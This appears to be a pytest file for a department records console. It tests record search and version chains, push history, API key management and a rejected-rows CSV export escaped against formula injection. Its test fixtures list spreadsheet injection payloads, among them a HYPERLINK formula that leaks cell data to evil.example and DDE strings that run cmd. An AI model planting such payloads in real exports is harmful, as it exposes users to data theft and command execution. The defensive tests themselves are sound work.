"""The department console's data pages: record search with version history and chain status,
push history, rejected rows as a CSV neutralised against formula injection (LibreOffice- and
Excel-style payloads), the data-quality dashboard, and the admins' API keys."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from aiohttp.test_utils import TestClient

from infra.formula import neutralise, starts_like_formula
from models.audit import AuditEntry
from models.catalogue import Department
from models.department_key import DepartmentKey
from models.ingest_batch import IngestBatch
from models.record import Record
from models.record_version import RecordVersion
from services.accounts.department_keys import create_department_key
from tests.staff_support import make_staff, sign_in
from tests.test_ingest_support import (
    auth,
    dept_key,
    make_enterprises,
    ndjson,
    push_records,
    record_row,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_plain_text(payload: str):
    assert starts_like_formula(payload)
    assert neutralise(payload) == "'" + payload and not starts_like_formula(neutralise(payload))


def test_plain_text_is_left_alone():
    assert neutralise("渝市监罚〔2024〕12号") == "渝市监罚〔2024〕12号"
    assert neutralise("2024-03-15") == "2024-03-15"


async def clerk_of(cli: TestClient, code: str = "samr") -> None:
    await sign_in(cli, await make_staff(f"viewer.{code}", "dept_viewer", department_code=code))


def parsed(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 only with a BOM
    return list(csv.reader(io.StringIO(body.decode()[1:])))


async def test_rejected_rows_download_with_every_formula_neutralised(cli: TestClient):
    samr = await Department.get(code="samr")
    await IngestBatch.create(
        public_id="B-FORMULA", department=samr, channel="api", status="done",
        rows_received=len(PAYLOADS), rejected=len(PAYLOADS), started_at=datetime.now(UTC),
        rejections_by_code={"formula_injection": len(PAYLOADS)},
        rejected_rows=[{"line": i, "field": "summary", "code": "formula_injection", "message": p,
                        "source_ref": p} for i, p in enumerate(PAYLOADS, 2)],
    )  # fmt: skip
    await clerk_of(cli)
    page = await (await cli.get("/dept/pushes")).text()
    assert "B-FORMULA" in page and "/dept/pushes/B-FORMULA/rejected.csv" in page
    r = await cli.get("/dept/pushes/B-FORMULA/rejected.csv")
    assert r.status == 200 and r.content_type == "text/csv"
    assert "attachment" in r.headers["Content-Disposition"]
    rows = parsed(await r.read())
    assert rows[0] == ["行号", "字段", "原因代码", "原因", "来源编号"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        assert row[3] == "'" + payload and row[4] == "'" + payload
        assert not any(starts_like_formula(cell) for cell in row)


async def test_a_real_push_keeps_its_rejected_rows_for_the_console(cli: TestClient):
    (uscc,) = await make_enterprises(1)
    key = await dept_key()
    rows = [record_row(uscc, "OK-1"), record_row(uscc, "BAD-1", decision_date="2099-01-01"),
            record_row(uscc, "=cmd|' /C calc'!A0")]  # fmt: skip
    status, answer = await push_records(cli, key, ndjson(rows))
    assert status == 200, answer
    assert answer["counts"]["rejected"] == 2
    await clerk_of(cli)
    r = await cli.get(f"/dept/pushes/{answer['batch_id']}/rejected.csv")
    lines = parsed(await r.read())[1:]
    assert [line[0] for line in lines] == [str(x["line"]) for x in answer["rejected"]]
    assert not any(starts_like_formula(cell) for line in lines for cell in line)


async def test_another_departments_batch_is_not_found(cli: TestClient):
    tax = await Department.get(code="tax")
    await IngestBatch.create(public_id="B-TAX", department=tax, channel="api", status="done",
                             started_at=datetime.now(UTC),
                             rejected_rows=[{"line": 2, "code": "x", "message": "m"}])  # fmt: skip
    await clerk_of(cli, "samr")
    r = await cli.get("/dept/pushes/B-TAX/rejected.csv")
    assert r.status == 404 and "未找到该推送批次" in await r.text()
    assert "B-TAX" not in await (await cli.get("/dept/pushes")).text()


async def test_the_quality_dashboard_shows_lateness_reasons_and_lagging_domains(cli: TestClient):
    (uscc,) = await make_enterprises(1)
    key = await dept_key()
    rows = [record_row(uscc, "OK-1", decision_date="2025-01-06"),
            record_row(uscc, "BAD-1", domain=99)]  # fmt: skip
    status, answer = await push_records(cli, key, ndjson(rows))
    assert status == 200, answer
    await clerk_of(cli)
    html = await (await cli.get("/dept/quality")).text()
    assert "按月逾期推送占比" in html and "2025-01" in html and "<svg" in html
    assert "拒收原因" in html and "从未推送" not in html.split("最近推送")[1][:80]
    # 市场监管 (27) was just pushed; 药品监管 (33) also needs 市药监局, which never pushed.
    lagging = html.split("滞后的领域")[1]
    assert "33. 药品监管" in lagging and "27. 市场监管" not in lagging


async def test_records_are_found_by_uscc_decision_number_or_date_with_their_versions(
    cli: TestClient,
):
    (uscc,) = await make_enterprises(1)
    key = await dept_key()
    assert (await push_records(cli, key, ndjson([record_row(uscc, "R-1")])))[0] == 200
    changed = record_row(uscc, "R-1", summary="处以警告（已更正罚款金额）。")
    assert (await push_records(cli, key, ndjson([changed])))[0] == 200
    await clerk_of(cli)
    for query in (f"uscc={uscc}", "decision_no=2024〕12", "date=2024-03-15"):
        html = await (await cli.get(f"/dept/records?{query}")).text()
        assert "渝市监罚〔2024〕12号" in html and "第 2 版" in html, query
    html = await (await cli.get("/dept/records?date=2024-03-16")).text()
    assert "没有符合条件的记录" in html
    record = await Record.get(source_ref="R-1")
    page = await (await cli.get(f"/dept/records/{record.id}")).text()
    assert "完整：2 个版本" in page and "已更正罚款金额" in page and "第 1 版" in page


async def test_a_tampered_version_shows_as_a_broken_chain(cli: TestClient):
    (uscc,) = await make_enterprises(1)
    assert (await push_records(cli, await dept_key(), ndjson([record_row(uscc, "R-1")])))[0] == 200
    record = await Record.get(source_ref="R-1")
    await RecordVersion.filter(record_id=record.id).update(content='["tampered"]')
    await clerk_of(cli)
    page = await (await cli.get(f"/dept/records/{record.id}")).text()
    assert "第 1 版内容与其哈希不符" in page and "完整" not in page


async def test_record_search_refuses_bad_criteria_and_other_departments_records(cli: TestClient):
    (uscc,) = await make_enterprises(1)
    tax_key = await dept_key("tax")
    row = record_row(uscc, "T-1", domain=37, kind="arrears_tax", procedure=None,
                     decision_no="渝税罚〔2024〕1号", authority="市税务局")  # fmt: skip
    status, answer = await push_records(cli, tax_key, ndjson([row]))
    assert status == 200 and answer["counts"]["created"] == 1, answer
    await clerk_of(cli, "samr")
    r = await cli.get("/dept/records?uscc=91500000000000000X")
    assert r.status == 422 and "统一社会信用代码无效" in await r.text()
    r = await cli.get("/dept/records?date=2024-13-01")
    assert r.status == 400 and "YYYY-MM-DD" in await r.text()
    assert "渝税罚" not in await (await cli.get(f"/dept/records?uscc={uscc}")).text()
    record = await Record.get(source_ref="T-1")
    r = await cli.get(f"/dept/records/{record.id}")
    assert r.status == 404 and "未找到该记录" in await r.text()


async def test_a_department_admin_creates_and_revokes_its_keys(cli: TestClient):
    admin = await make_staff("admin.samr", "dept_admin", department_code="samr", name="王管理")
    csrf = (await sign_in(cli, admin))["X-CSRF-Token"]
    r = await cli.post("/dept/keys", data={"csrf_token": csrf, "label": "夜间批量推送"})
    assert r.status == 200 and "只显示这一次" in (html := await r.text())
    key = html.split('<p class="code">')[1].split("<")[0]
    assert key.startswith("yc_samr_")
    listed = await (await cli.get("/dept/keys")).text()
    assert key not in listed and "夜间批量推送" in listed  # shown once only
    assert (await cli.get("/api/dept/objections", headers=auth(key))).status == 200
    row = await DepartmentKey.get(label="夜间批量推送")
    r = await cli.post(f"/dept/keys/{row.id}/revoke", data={"csrf_token": csrf},
                       allow_redirects=False)  # fmt: skip
    assert r.status == 303
    assert (await cli.get("/api/dept/objections", headers=auth(key))).status == 403
    actions = await AuditEntry.filter(actor="staff:admin.samr").values_list("action", flat=True)
    assert {"staff.dept_key.created", "staff.dept_key.revoked"} <= set(actions)


async def test_only_a_departments_admin_manages_its_keys(cli: TestClient):
    tax_key = await create_department_key("tax", "税务推送")
    admin = await make_staff("admin.samr", "dept_admin", department_code="samr", name="王管理")
    csrf = (await sign_in(cli, admin))["X-CSRF-Token"]
    assert "税务推送" not in await (await cli.get("/dept/keys")).text()
    r = await cli.post(f"/dept/keys/{tax_key.id}/revoke", data={"csrf_token": csrf})
    assert r.status == 404
    assert (await DepartmentKey.get(id=tax_key.id)).revoked_at is None
    r = await cli.post("/dept/keys", data={"csrf_token": csrf, "label": ""})
    assert r.status == 400 and "请填写密钥用途" in await r.text()
    clerk = await make_staff("handler.samr", "dept_handler", department_code="samr")
    cli.session.cookie_jar.clear()
    await sign_in(cli, clerk)
    r = await cli.get("/dept/keys")
    assert r.status == 403 and "无权" in await r.text()
